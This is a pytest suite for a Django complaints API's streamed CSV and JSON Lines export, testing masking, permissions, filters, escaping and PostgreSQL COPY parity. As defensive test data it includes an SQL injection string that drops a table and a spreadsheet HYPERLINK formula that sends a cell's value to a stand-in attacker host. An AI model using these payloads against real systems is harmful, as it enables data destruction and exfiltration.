"""The streamed export (complaints/export/?format=csv|jsonl): the list's rows and filters in
one file, masking, department restriction, errors, escaping, and on PostgreSQL the COPY
output byte for byte against the Python implementation."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection
from django.db.models import F
from django.http import StreamingHttpResponse

from complaints.api import export
from complaints.api.serializers import ComplaintSerializer
from complaints.models import Channel, Complaint, Customer, Status
from tests.factories import (
    CategoryFactory,
    CustomerFactory,
    DepartmentFactory,
    MembershipFactory,
    UserFactory,
    make_complaint,
)

pytestmark = pytest.mark.django_db

EXPORT = "/api/v1/complaints/export/"
LIST = "/api/v1/complaints/"
TZ = ZoneInfo("Asia/Shanghai")
NOW = datetime(2026, 3, 10, 10, 0, tzinfo=TZ)
BOM = "\ufeff".encode()
NASTY = (
    'He said "it leaks", twice, \\ and \\\\n\n second line\r\n third\ttab \x01\x1f '
    "中文：漏水，楼上 😀 ; 'single' =1+1"
)


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def body(response) -> bytes:
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict]:
    csv.field_size_limit(10**8)  # the huge-field test
    data = body(response)
    assert data.startswith(BOM)
    reader = csv.reader(io.StringIO(data[len(BOM) :].decode(), newline=""))
    header = next(reader)
    assert header == export.HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


def jsonl_rows(response) -> list[dict]:
    data = body(response)
    assert not data.startswith(BOM)
    lines = data.decode().split("\n")
    assert lines[-1] == ""  # every line ends with a newline
    return [json.loads(line) for line in lines[:-1]]


def flat(row: dict) -> dict:
    """A list/JSONL row as a CSV row: customer flattened, null empty, the rest as text."""
    out = {}
    for key, value in row.items():
        if key == "customer":
            out.update({f"customer_{k}": v for k, v in value.items()})
        else:
            out[key] = value
    return {
        k: "" if v is None else ("true" if v else "false") if isinstance(v, bool) else str(v)
        for k, v in out.items()
    }


def list_rows(client, params=None) -> list[dict]:
    response = client.get(LIST, {**(params or {}), "page_size": 500})
    assert response.status_code == 200, response.content
    assert response.json()["next"] is None
    return response.json()["results"]


@pytest.fixture
def people(department):
    """Complaints with personal data, another department, and an assisting department."""
    other = DepartmentFactory(code="catering", name="Catering")
    leak = CategoryFactory(code="leak", default_department=department)
    assignee = UserFactory(username="wang.wei")
    MembershipFactory(department=department, user=assignee)
    zhang = Customer.objects.create(
        name="张三丰", phone="+8613812345678", email="zhang@qq.com", external_id="crm-1"
    )
    mine = make_complaint(
        department=department,
        category=leak,
        customer=zhang,
        assignee=assignee,
        received_at=NOW - timedelta(days=3, microseconds=-123456),
        description=NASTY,
    )
    theirs = make_complaint(
        department=other, channel=Channel.EMAIL, received_at=NOW - timedelta(days=2)
    )
    helped = make_complaint(department=other, received_at=NOW - timedelta(days=1))
    helped.assisting_departments.add(department)
    Complaint.objects.filter(pk=theirs.pk).update(
        status=Status.CLOSED, closed_at=NOW - timedelta(hours=5), due_at=None
    )
    late = make_complaint(received_at=NOW - timedelta(days=20))
    Complaint.objects.filter(pk=late.pk).update(due_at=NOW - timedelta(hours=1))
    for hours, complaint in enumerate((mine, theirs, helped, late)):
        Complaint.objects.filter(pk=complaint.pk).update(updated_at=NOW - timedelta(hours=hours))
    return {"mine": mine, "theirs": theirs, "helped": helped, "late": late, "zhang": zhang}


# -- the file ----------------------------------------------------------------------------------


def test_csv_is_a_streamed_attachment_with_the_list_columns(reader, people):
    response = reader.get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="complaints-2026-03-10.csv"'
    assert "no-store" in response["Cache-Control"]
    rows = csv_rows(response)
    # The list's columns in the list's order, the customer flattened.
    serializer_fields = ComplaintSerializer.Meta.fields
    customer = serializer_fields.index("customer")
    expected_header = [
        *serializer_fields[:customer],
        *[f"customer_{k}" for k in ("name", "phone", "email", "external_id", "tier")],
        *serializer_fields[customer + 1 :],
    ]
    assert expected_header == export.HEADER
    # Newest received first, as the list; the same values as the list.
    assert [row["reference"] for row in rows] == [
        people[k].reference for k in ("helped", "theirs", "mine", "late")
    ]
    assert rows == [flat(row) for row in list_rows(reader)]


def test_csv_is_the_default_format(reader, people):
    response = reader.get(EXPORT)
    assert response["Content-Type"].startswith("text/csv")
    assert len(csv_rows(response)) == 4


def test_jsonl_lines_are_the_list_rows(reader, people):
    response = reader.get(EXPORT, {"format": "jsonl"})
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="complaints-2026-03-10.jsonl"'
    assert jsonl_rows(response) == list_rows(reader)


def test_times_are_iso_8601_with_the_time_zone_offset(full, people):
    rows = jsonl_rows(full.get(EXPORT, {"format": "jsonl"}))
    [row] = [r for r in rows if r["reference"] == people["mine"].reference]
    assert row["received_at"] == "2026-03-07T10:00:00.123456+08:00"
    assert row["created_at"] == "2026-03-10T10:00:00+08:00"
    assert row["closed_at"] is None


def test_values_of_a_complaint(full, people):
    rows = {r["reference"]: r for r in csv_rows(full.get(EXPORT, {"format": "csv"}))}
    mine = rows[people["mine"].reference]
    assert mine["category"] == "leak"
    assert mine["department"] == "property"
    assert mine["assignee"] == "wang.wei"
    assert mine["customer_external_id"] == "crm-1"
    assert mine["severity"] == "4"
    assert mine["description"] == NASTY
    assert rows[people["late"].reference]["is_overdue"] == "true"
    assert rows[people["theirs"].reference]["is_overdue"] == "false"  # closed
    assert rows[people["theirs"].reference]["closed_at"] == "2026-03-10T05:00:00+08:00"
    assert rows[people["late"].reference]["department"] == ""  # null: empty, unquoted


def test_csv_quotes_every_value_and_leaves_null_empty(full, people):
    data = body(full.get(EXPORT, {"format": "csv"}))
    header, first = data[len(BOM) :].decode().split("\n")[:2]
    assert header.startswith('"reference","status","severity",')
    # The newest complaint: blank item_ref (""), no category (null: nothing), a department,
    # no assignee.
    assert '"","",,"catering",,"' in first


# -- personal data -----------------------------------------------------------------------------


def test_personal_data_is_masked_without_pii_scope(reader, people):
    rows = {r["reference"]: r for r in jsonl_rows(reader.get(EXPORT, {"format": "jsonl"}))}
    customer = rows[people["mine"].reference]["customer"]
    assert customer == {
        "name": "张**",
        "phone": "+86138****5678",
        "email": "z***@qq.com",
        "external_id": "crm-1",
        "tier": "standard",
    }
    csv_row = {r["reference"]: r for r in csv_rows(reader.get(EXPORT))}[people["mine"].reference]
    assert csv_row["customer_name"] == "张**"
    assert csv_row["customer_phone"] == "+86138****5678"
    assert "张三丰" not in body(reader.get(EXPORT)).decode()


def test_personal_data_is_clear_with_pii_scope(full, people):
    rows = {r["reference"]: r for r in jsonl_rows(full.get(EXPORT, {"format": "jsonl"}))}
    customer = rows[people["mine"].reference]["customer"]
    assert (customer["name"], customer["phone"], customer["email"]) == (
        "张三丰",
        "+8613812345678",
        "zhang@qq.com",
    )


def test_staff_session_export_follows_admin_visibility_and_permissions(
    login_client, department, people
):
    member = UserFactory(
        username="member",
        perms=["complaints.view_complaint", "complaints.view_department_complaints"],
    )
    MembershipFactory(department=department, user=member)
    rows = jsonl_rows(login_client(member).get(EXPORT, {"format": "jsonl"}))
    assert {r["reference"] for r in rows} == {people["mine"].reference, people["helped"].reference}
    mine = next(r for r in rows if r["reference"] == people["mine"].reference)
    assert mine["customer"]["name"] == "张**"  # no view_pii

    auditor = UserFactory(
        username="auditor",
        perms=[
            "complaints.view_complaint",
            "complaints.view_all_complaints",
            "complaints.view_pii",
        ],
    )
    rows = jsonl_rows(login_client(auditor).get(EXPORT, {"format": "jsonl"}))
    assert len(rows) == 4
    mine = next(r for r in rows if r["reference"] == people["mine"].reference)
    assert mine["customer"]["name"] == "张三丰"


# -- filters, ordering, departments --------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"status": "closed"},
        {"status": ["new", "closed"]},
        {"department": "catering"},
        {"department": "nowhere"},
        {"category": "leak"},
        {"channel": "email"},
        {"severity": "4"},
        {"received_after": "2026-03-08T00:00:00+08:00"},
        {"received_before": "2026-03-08T00:00:00+08:00"},
        {"updated_since": "2026-03-01T00:00:00Z"},
        {"overdue": "true"},
        {"overdue": "false"},
        {"ordering": "received_at"},
        {"ordering": "-updated_at"},
    ],
)
def test_export_applies_the_list_filters_and_ordering(reader, people, params):
    expected = [row["reference"] for row in list_rows(reader, params)]
    for fmt in ("csv", "jsonl"):
        response = reader.get(EXPORT, {**params, "format": fmt})
        rows = csv_rows(response) if fmt == "csv" else jsonl_rows(response)
        assert [row["reference"] for row in rows] == expected, fmt
    if params == {"status": "closed"}:
        assert expected == [people["theirs"].reference]


@pytest.mark.parametrize(
    "params",
    [{"status": "bogus"}, {"received_after": "yesterday"}, {"severity": "9"}],
)
def test_invalid_filter_values_are_400(reader, people, params):
    response = reader.get(EXPORT, {**params, "format": "csv"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert set(response.json()) == set(params)


def test_unknown_format_is_400_with_a_clear_message(reader, people):
    response = reader.get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    [message] = response.json()["format"]
    assert "xlsx" in message and "csv" in message and "jsonl" in message


def test_department_key_exports_only_its_department(make_api_client, api, department, people):
    _client, key = make_api_client(["complaints:read"], department=department)
    client = api(key)
    refs = {row["reference"] for row in csv_rows(client.get(EXPORT))}
    assert refs == {people["mine"].reference, people["helped"].reference}  # incl. assisting
    assert {r["reference"] for r in jsonl_rows(client.get(EXPORT, {"format": "jsonl"}))} == refs
    response = client.get(EXPORT, {"department": "catering"})
    assert response.status_code == 403
    assert "own department" in response.json()["detail"]
    # The filter names the responsible department (as in the list).
    property_rows = csv_rows(client.get(EXPORT, {"department": "property"}))
    assert [row["reference"] for row in property_rows] == [people["mine"].reference]


def test_without_credentials_401(api, people):
    response = api().get(EXPORT)
    assert response.status_code == 401
    response = api("rdx_not-a-key").get(EXPORT)
    assert response.status_code == 401


def test_without_read_scope_403(make_api_client, api, people):
    _client, key = make_api_client(["complaints:write"])
    response = api(key).get(EXPORT, {"format": "csv"})
    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"


def test_format_may_be_given_as_a_suffix(reader, people):
    response = reader.get("/api/v1/complaints/export.jsonl")
    assert response["Content-Type"].startswith("application/x-ndjson")
    assert len(jsonl_rows(response)) == 4


def test_empty_export_is_the_header_only(reader, people):
    assert csv_rows(reader.get(EXPORT, {"department": "nowhere"})) == []
    assert body(reader.get(EXPORT, {"department": "nowhere", "format": "jsonl"})) == b""


# -- escaping and size -------------------------------------------------------------------------


def test_huge_and_awkward_fields_survive_both_formats(full, department):
    huge = (NASTY + "\n") * 20_000  # ~1.6 MB in one field
    customer = CustomerFactory(name='  "Li", \\ 李\n', email="x@y")
    complaint = make_complaint(
        department=department, description=huge, subject='"quoted", \\back', customer=customer
    )
    [csv_row] = csv_rows(full.get(EXPORT))
    assert csv_row["description"] == huge
    assert csv_row["subject"] == '"quoted", \\back'
    assert csv_row["customer_name"] == '  "Li", \\ 李\n'
    [json_row] = jsonl_rows(full.get(EXPORT, {"format": "jsonl"}))
    assert json_row["reference"] == complaint.reference
    assert json_row["description"] == huge
    assert json_row["customer"]["name"] == '  "Li", \\ 李\n'


def test_the_file_comes_in_several_chunks(reader, monkeypatch, department):
    monkeypatch.setattr(export, "CHUNK_BYTES", 2000)
    for day in range(12):
        make_complaint(department=department, received_at=NOW - timedelta(days=day + 1))
    for fmt in ("csv", "jsonl"):
        response = reader.get(EXPORT, {"format": fmt})
        chunks = list(response.streaming_content)
        assert len(chunks) > 2, fmt
        text = b"".join(chunks).decode()
        assert text.count("C-") >= 12


def test_multiple_choice_filters_do_not_make_the_export_distinct(people):
    from complaints.api.filters import ComplaintFilter

    filtered = ComplaintFilter({"status": ["new"], "channel": ["hotline"]}, Complaint.objects.all())
    assert not filtered.qs.query.distinct  # distinct=False: these filters join nothing
    assert filtered.qs.count() == 3
    # A redundant DISTINCT is dropped; one a multi-valued join needs is kept.
    assert not export.without_redundant_distinct(filtered.qs.distinct()).query.distinct
    assisted = filtered.qs.filter(assisting_departments__code="property").distinct()
    assert export.without_redundant_distinct(assisted).query.distinct


def test_whitespace_constant_is_what_str_strip_removes():
    from complaints import privacy

    assert set(privacy.WHITESPACE) == {chr(c) for c in range(0x110000) if chr(c).isspace()}


def test_schema_documents_the_export(reader, manager_client):
    response = manager_client.get("/api/schema/", {"format": "json"})
    assert response.status_code == 200
    operation = response.json()["paths"]["/api/v1/complaints/export/"]["get"]
    parameters = {p["name"]: p for p in operation["parameters"]}
    assert parameters["format"]["schema"]["enum"] == ["csv", "jsonl"]
    assert {"status", "department", "received_after", "overdue", "ordering"} <= set(parameters)
    assert set(operation["responses"]["200"]["content"]) == {"text/csv", "application/x-ndjson"}
    assert {"400", "401", "403"} <= set(operation["responses"])


# -- PostgreSQL: COPY against the Python implementation -------------------------------------


def tricky_customers() -> list[Customer]:
    names = [
        "",
        "   ",
        "李",
        "王五",
        "\u3000司马相如\u3000",
        " A",
        "Ab",
        "Long Name Here",
        "\t张\n",
    ]
    phones = ["", "1", "1234", "12345", "12345678", "123456789", "+8613812345678", "+1 (555) 0100"]
    emails = ["", "no-at-sign", "@domain.cn", "a@b", "zhang.san@example.com", "x@y@z"]
    customers = []
    for index in range(max(len(names), len(phones), len(emails))):
        phone, email = phones[index % len(phones)], emails[index % len(emails)]
        # A repeated phone or email is one person's later record (identity is unique).
        repeated = any(
            (phone and c.phone == phone) or (email and c.email == email) for c in customers
        )
        customers.append(
            Customer.objects.create(
                name=names[index % len(names)],
                phone=phone,
                email=email,
                external_id=f"t-{index}",
                tier="vip" if index % 2 else "standard",
                duplicate_of=customers[0] if repeated else None,
            )
        )
    return customers


def _complaints_for_comparison(department):
    other = DepartmentFactory(code="catering")
    user = UserFactory(username="li.si")
    category = CategoryFactory(code="noise", default_department=other)
    complaints = []
    for index, customer in enumerate(tricky_customers()):
        complaints.append(
            make_complaint(
                department=department if index % 3 else None,
                category=category if index % 2 else None,
                customer=customer,
                subject=f"Complaint {index} {NASTY[: index * 7]}",
                description=NASTY * (index + 1),
                received_at=NOW - timedelta(days=index, seconds=index, microseconds=index * 1001),
            )
        )
    Complaint.objects.filter(pk__in=[c.pk for c in complaints[::4]]).update(assignee=user)
    Complaint.objects.filter(pk=complaints[0].pk).update(due_at=NOW - timedelta(minutes=1))
    Complaint.objects.filter(pk=complaints[1].pk).update(
        status=Status.CLOSED, closed_at=datetime(2026, 1, 1, tzinfo=UTC), deadline_provisional=True
    )
    # Summer time abroad (for the Europe/London run) and a zero-microsecond time.
    Complaint.objects.filter(pk=complaints[2].pk).update(
        received_at=datetime(2025, 7, 1, 12, 0, tzinfo=UTC)
    )
    # Times the fast ISO path (FastIso) leaves to to_char: microseconds with trailing zeros,
    # before 2000 and after 2100; and one it takes, with six digits.
    Complaint.objects.filter(pk=complaints[3].pk).update(
        acknowledged_at=datetime(2026, 3, 1, 8, 30, 5, 120000, tzinfo=UTC),
        first_response_at=datetime(2026, 3, 1, 9, 0, 0, 100, tzinfo=UTC),
        resolved_at=datetime(1930, 1, 15, 3, 2, 1, 123456, tzinfo=UTC),  # Paris: +00
        closed_at=datetime(2150, 1, 2, 3, 4, 5, 654321, tzinfo=UTC),
        resolve_due_at=datetime(2026, 11, 5, 6, 7, 8, 987654, tzinfo=UTC),
    )
    # The fast path's test of trailing zeros (rounded to 0 and 5 digits): one, five and no
    # trailing zeros, a last digit of 5 (rounds up at 5 digits), a single microsecond.
    Complaint.objects.filter(pk=complaints[4].pk).update(
        acknowledged_at=datetime(2026, 3, 1, 8, 30, 5, 123450, tzinfo=UTC),
        first_response_at=datetime(2026, 3, 1, 9, 0, 0, 500000, tzinfo=UTC),
        resolved_at=datetime(2026, 3, 2, 9, 0, 0, 123455, tzinfo=UTC),
        closed_at=datetime(2026, 3, 3, 9, 0, 0, 1, tzinfo=UTC),
        resolve_due_at=datetime(2026, 3, 4, 9, 0, 0, 999995, tzinfo=UTC),
    )
    return complaints


def _both(queryset, fmt, pii):
    now = datetime.now(UTC)
    queryset = export.with_tiebreak(queryset)
    by_copy = b"".join(export.copy_chunks(queryset, fmt, pii=pii, now=now))
    in_python = b"".join(export.python_chunks(queryset, fmt, pii=pii, now=now))
    return by_copy, in_python


@pytest.mark.postgres
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("pii", [False, True])
@pytest.mark.parametrize("zone", ["Asia/Shanghai", "Europe/London", "UTC", "America/New_York"])
def test_copy_output_is_byte_for_byte_the_python_output(department, settings, fmt, pii, zone):
    settings.TIME_ZONE = zone
    _complaints_for_comparison(department)
    queryset = Complaint.objects.order_by("-received_at")
    by_copy, in_python = _both(queryset, fmt, pii)
    assert by_copy.count(b"Complaint ") >= 9
    assert by_copy == in_python
    if zone == "UTC":
        assert b"Z" in by_copy and b"+00:00" not in by_copy
    if zone == "Europe/London":
        assert b"+01:00" in by_copy and b"Z" in by_copy  # summer and winter


@pytest.mark.postgres
def test_copy_and_python_agree_on_filtered_ordered_department_restricted_rows(
    department, make_api_client, api
):
    complaints = _complaints_for_comparison(department)
    complaints[3].assisting_departments.add(department)
    _client, key = make_api_client(["complaints:read"], department=department)
    client = api(key)
    params = {"ordering": "updated_at", "received_after": "2026-03-01T00:00:00+08:00"}
    from_api = body(client.get(EXPORT, {**params, "format": "jsonl"}))
    # The same request as the API answers it, but through the Python path.
    rows = [json.loads(line) for line in from_api.decode().splitlines()]
    assert rows and all(r["department"] == "property" or r["reference"] for r in rows)
    queryset = (
        Complaint.objects.filter(received_at__gte=datetime(2026, 3, 1, tzinfo=TZ))
        .filter(
            pk__in=[c.pk for c in complaints if c.department_id == department.pk]
            + [complaints[3].pk]
        )
        .order_by("updated_at")
    )
    by_copy, in_python = _both(queryset, "jsonl", False)
    assert by_copy == in_python
    assert [r["reference"] for r in rows] == [
        json.loads(line)["reference"] for line in by_copy.decode().splitlines()
    ]


@pytest.mark.postgres
def test_export_uses_copy_on_postgresql(reader, people, monkeypatch):
    def no_python(*args, **kwargs):
        raise AssertionError("the Python path was used")

    monkeypatch.setattr(export, "python_chunks", no_python)
    assert len(csv_rows(reader.get(EXPORT))) == 4


@pytest.mark.postgres
def test_stopping_midway_cancels_the_copy_and_leaves_the_connection_usable(department, monkeypatch):
    monkeypatch.setattr(export, "CHUNK_BYTES", 1000)
    for day in range(30):
        make_complaint(department=department, received_at=NOW - timedelta(days=day + 1))
    queryset = export.with_tiebreak(Complaint.objects.order_by("-received_at"))
    chunks = export.copy_chunks(queryset, "jsonl", pii=False, now=NOW)
    assert next(chunks)
    chunks.close()  # what the server does (response.close()) when the client goes away
    assert Complaint.objects.count() == 30
    with connection.cursor() as cursor:
        cursor.execute("SHOW TimeZone")
        assert cursor.fetchone()[0] == "UTC"  # the export's SET LOCAL did not leak


@pytest.mark.postgres
def test_copy_statement_binds_filter_values_as_literals(department):
    hostile = "x'); DROP TABLE complaints_complaint; --"
    make_complaint(department=department, subject=hostile)
    queryset = export.with_tiebreak(Complaint.objects.filter(subject=hostile))
    statement = export.copy_sql(queryset, "csv", pii=False, now=datetime.now(UTC))
    assert "'x''); DROP TABLE" in statement
    by_copy, in_python = _both(Complaint.objects.filter(subject=hostile), "csv", False)
    assert by_copy == in_python and hostile.encode() in by_copy


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(reader, department):
    """CSV injection: free text starting with = + - @ gets a leading apostrophe in CSV
    (both the COPY and the Python path); JSON Lines keeps the exact text."""
    customer = Customer.objects.create(name="@SUM(1+1)*cmd", phone="+8613812345678")
    complaint = make_complaint(
        department=department,
        customer=customer,
        subject='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        description="-2+3",
        received_at=NOW - timedelta(days=1),
    )
    (row,) = [
        r
        for r in csv_rows(reader.get(EXPORT, {"format": "csv"}))
        if r["reference"] == complaint.reference
    ]
    assert row["subject"] == "'" + complaint.subject
    assert row["description"] == "'-2+3"
    assert row["customer_name"].startswith("'@")
    assert row["customer_phone"].startswith("+86")  # normalised digits, left alone
    (line,) = [
        r
        for r in jsonl_rows(reader.get(EXPORT, {"format": "jsonl"}))
        if r["reference"] == complaint.reference
    ]
    assert line["subject"] == complaint.subject and line["description"] == "-2+3"


def test_severity_reason_is_the_english_text_of_the_stored_message(reader, department):
    """Issue 11: the reason is stored as a message id; the API and the export (COPY on
    PostgreSQL, Python elsewhere) give its English text, whoever's language recorded it."""
    from django.utils import translation

    with translation.override("zh-hans"):
        make_complaint(department=department, media_risk=True)
    [csv_row] = csv_rows(reader.get(EXPORT, {"format": "csv"}))
    [json_row] = jsonl_rows(reader.get(EXPORT, {"format": "jsonl"}))
    [api_row] = list_rows(reader)
    expected = "Risk of negative media exposure."
    assert csv_row["severity_reason"] == json_row["severity_reason"] == expected
    assert api_row["severity_reason"] == expected


@pytest.mark.postgres
def test_sql_formula_guard_is_the_python_one_on_every_first_character():
    """The COPY path's guard tests the first character's code (ascii()); it must defuse
    exactly what formula_safe() defuses: each formula start, and nothing else (a look-alike
    full-width sign, a leading space, an empty text, NULL)."""
    values = [
        *(start + "SUM(A1)" for start in export.FORMULA_START),
        *export.FORMULA_START,
        "",
        " =1+1",
        "＝1+1",  # full-width equals sign: not a formula
        "＋86",
        "中文=1",
        "a=1",
        "'=already",
        "\n=1",
        "😀",
        None,
    ]
    guard = export.FORMULA_SAFE_SQL.replace("{x}", "v")
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {guard} FROM unnest(%s::text[]) WITH ORDINALITY AS u(v, n) ORDER BY n",  # noqa: S608
            [values],
        )
        from_sql = [row[0] for row in cursor.fetchall()]
    assert from_sql == [export.formula_safe(v) for v in values]
    assert from_sql[0] == "'=SUM(A1)" and from_sql[-1] is None


@pytest.mark.postgres
@pytest.mark.parametrize(
    "zone, fast",
    [
        ("Asia/Shanghai", True),
        ("America/New_York", True),  # -05 and -04: whole hours
        ("Europe/Paris", True),  # since 2000; +00 (Z) in 1930
        ("Europe/London", False),  # +00 in winter: Z
        ("UTC", False),
        ("Asia/Kolkata", False),  # +05:30
    ],
)
def test_times_take_the_cheap_text_output_only_in_whole_hour_zones(
    department, settings, zone, fast
):
    settings.TIME_ZONE = zone
    _complaints_for_comparison(department)
    statement = export.copy_sql(
        export.with_tiebreak(Complaint.objects.all()), "csv", pii=True, now=NOW
    )
    assert export.whole_hour_zone("default", zone) is fast
    assert ("::timestamptz(5)" in statement) is fast
    assert "to_char" in statement  # the exact way stays for the other values
    by_copy, in_python = _both(Complaint.objects.all(), "csv", True)
    assert by_copy == in_python


def _parallel_plan(statement: str) -> dict:
    """The COPY's SELECT as PostgreSQL plans it in parallel (the costs that keep a few rows
    in one process set to nothing, for this transaction only), with each node's output."""
    from django.db import transaction

    select = statement[len("COPY (") : statement.rindex(") TO STDOUT")]
    with transaction.atomic(), connection.cursor() as cursor:
        for setting in (
            "parallel_setup_cost",
            "parallel_tuple_cost",
            "min_parallel_table_scan_size",
            "min_parallel_index_scan_size",
        ):
            cursor.execute("SELECT set_config(%s, '0', true)", [setting])
        cursor.execute("SELECT set_config('enable_indexscan', 'off', true)")  # a sort, as at 5 M
        cursor.execute(f"EXPLAIN (VERBOSE, FORMAT JSON) {select}")
        plan = cursor.fetchone()[0]
    if isinstance(plan, str):
        plan = json.loads(plan)
    return plan[0]["Plan"]


@pytest.mark.postgres
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_rows_are_formatted_in_the_parallel_workers_before_the_sort(department, fmt):
    """The API export's subquery has no ORDER BY of its own, so PostgreSQL merges it into the
    COPY's SELECT: in a parallel plan nothing runs above the Gather Merge (each row is
    formatted by the worker that joined it). The admin's export keeps the ordered subquery,
    formatted after the Gather Merge. Both give the bytes of the Python path (tests above)."""
    from complaints.admin import export as admin_export

    _complaints_for_comparison(department)
    queryset = export.with_tiebreak(Complaint.objects.order_by("-received_at"))
    statement = export.copy_sql(queryset, fmt, pii=False, now=NOW)
    assert statement.count(" ORDER BY ") == 1
    plan = _parallel_plan(statement)
    assert plan["Node Type"] == "Gather Merge"
    [sort] = plan["Plans"]  # in the workers: the rows come to it formatted
    formatted = "json_build_object(" if fmt == "jsonl" else "ascii("
    assert sort["Node Type"] == "Sort" and any(formatted in o for o in sort["Output"])
    values = [
        admin_export._sql_value(c, pii=False, now=NOW, labels=admin_export.Labels.now())
        for c in admin_export.COLUMNS
    ]
    nested = export.csv_copy_sql(queryset, values, [c.guarded for c in admin_export.COLUMNS])
    assert nested.count(" ORDER BY ") == 2
    plan = _parallel_plan(nested)
    assert plan["Node Type"] == "Subquery Scan" and any("ascii(" in o for o in plan["Output"])


@pytest.mark.postgres
def test_a_slice_keeps_its_ordered_subquery(department):
    """A LIMIT without its ORDER BY would pick any rows: a sliced queryset is not merged."""
    complaints = _complaints_for_comparison(department)
    queryset = export.with_tiebreak(Complaint.objects.order_by("-received_at"))[:3]
    statement = export.copy_statement(
        queryset, [F("reference")], lambda refs: ", ".join(refs), "FORMAT csv", merged=True
    )
    assert statement.count(" ORDER BY ") == 2 and "LIMIT 3" in statement
    with connection.cursor() as cursor, cursor.cursor.copy(statement) as copy:
        lines = b"".join(bytes(chunk) for chunk in copy).decode().splitlines()
    newest = Complaint.objects.order_by("-received_at", "-pk").values_list("reference", flat=True)
    assert len(complaints) > 3 and lines == list(newest[:3])


@pytest.mark.postgres
def test_a_distinct_export_keeps_its_ordered_subquery(department):
    _complaints_for_comparison(department)
    queryset = export.with_tiebreak(Complaint.objects.distinct().order_by("-received_at"))
    statement = export.copy_sql(queryset, "csv", pii=False, now=NOW)
    assert statement.count(" ORDER BY ") == 2
    by_copy, in_python = _both(Complaint.objects.distinct().order_by("-received_at"), "csv", False)
    assert by_copy == in_python
